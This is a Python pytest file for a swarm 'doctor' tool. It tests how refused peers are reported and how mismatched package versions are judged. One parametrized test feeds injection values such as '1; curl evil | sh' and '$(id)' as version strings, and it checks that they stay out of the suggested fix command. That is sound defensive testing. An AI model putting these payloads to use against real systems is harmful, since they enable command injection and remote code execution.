"""Whom the others refuse, and who runs what."""

from __future__ import annotations

from importlib.metadata import version
from pathlib import Path
from typing import Any

import msgspec
import pytest

from swarm.views.doctor import nodes as logs
from swarm.views.doctor.check import RECENT
from swarm.wire import keys
from tests.layout import Layout
from tests.unit.views.doctor.patients import FAILURE, OK, WARNING, look, make_patient
from tests.unit.views.factories import append, make_experiment, make_row, make_start

GYM = "reasoning-gym"


def start(layout: Layout, node: str, **said: str) -> None:
    versions = {name.replace("_", "-"): value for name, value in said.items()}
    append(layout.root / keys.starts(node), msgspec.json.encode(make_start(layout, node, versions=versions)))


def refuses(layout: Layout, number: int, refused: dict[str, dict[str, int]], **more: Any) -> None:
    """Alice's row of a round."""
    row = make_row(layout, "alice", number, refused_by_peer=refused, **more)
    append(layout.metrics_file("alice"), msgspec.json.encode(row))


def test_a_refused_and_quarantined_peer_is_named_with_reason_and_mend(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared")
    refuses(layout, 3, {"mallory": {"gym_version": 4, "empty": 1}}, quarantined=["mallory"])
    found = look(logs.check_trust, make_patient(layout.path))["refused peer"]
    assert found.verdict is WARNING
    assert found.measured == "mallory: gym_version 4, empty 1, by 1 nodes; quarantined by 1 nodes"
    assert "reasoning-gym" in found.fix


def test_of_thousands_of_names_that_a_stranger_invents_the_most_refused_are_said(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared")
    invented = {f"n{number}": {"empty": 1} for number in range(250)} | {"mallory": {"empty": 7}}
    refuses(layout, 3, invented)
    found = [one for one in logs.check_trust(make_patient(layout.path)) if one.verdict is WARNING]
    assert len(found) == logs.MOST_REFUSED + 1
    assert found[0].measured.startswith("231 more")
    assert found[1].measured.startswith("mallory")


def test_refusals_of_long_ago_are_over(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared", rounds=0)
    for number in range(RECENT + 1):
        refuses(layout, number, {"mallory": {"empty": 1}} if number == 0 else {})
    assert look(logs.check_trust, make_patient(layout.path))["refused peers"].verdict is OK


def test_equal_versions_are_well_and_the_last_start_of_a_node_counts(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared")
    start(layout, "alice", swarm="0.0.9", reasoning_gym="0.1.9")
    for node in ("alice", "bob"):
        start(layout, node, swarm="0.1.0", reasoning_gym=version("reasoning-gym"))
    found = look(logs.check_versions, make_patient(layout.path))
    assert found["reasoning-gym"].measured == f"{version('reasoning-gym')} on 2 nodes"
    assert (found["reasoning-gym"].verdict, found["swarm"].verdict) == (OK, OK)


def test_other_versions_of_reasoning_gym_are_a_failure_and_of_swarm_a_warning(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared")
    start(layout, "alice", swarm="0.1.0", reasoning_gym="0.1.9")
    start(layout, "bob", swarm="0.2.0", reasoning_gym="0.1.25")
    found = look(logs.check_versions, make_patient(layout.path))
    assert found["reasoning-gym"].verdict is FAILURE
    assert found["reasoning-gym"].measured == "0.1.9 on alice; 0.1.25 on bob"
    assert "reasoning-gym==0.1.25" in found["reasoning-gym"].fix
    assert found["swarm"].verdict is WARNING


def test_a_host_whose_version_is_not_that_of_the_nodes_is_warned() -> None:
    nodes = {"alice": {GYM: "0.1.25"}}
    assert logs.judge_package(GYM, nodes, "0.1.25").verdict is OK
    assert logs.judge_package(GYM, nodes, "").verdict is OK  # a host that only looks
    found = logs.judge_package(GYM, nodes, "0.1.30")
    assert (found.verdict, "reasoning-gym==0.1.25" in found.fix) == (WARNING, True)


@pytest.mark.parametrize("said", ["1; curl evil | sh", "1.\u00b2", "9" * 5000, "$(id)"])
def test_what_no_version_can_be_comes_into_no_command(said: str) -> None:
    nodes = {"alice": {GYM: "0.1.25"}, "mallory": {GYM: said, "swarm": said}}
    for finding in (logs.judge_package(GYM, nodes, "0.1.30"), logs.judge_package("swarm", nodes, "")):
        assert said not in finding.fix
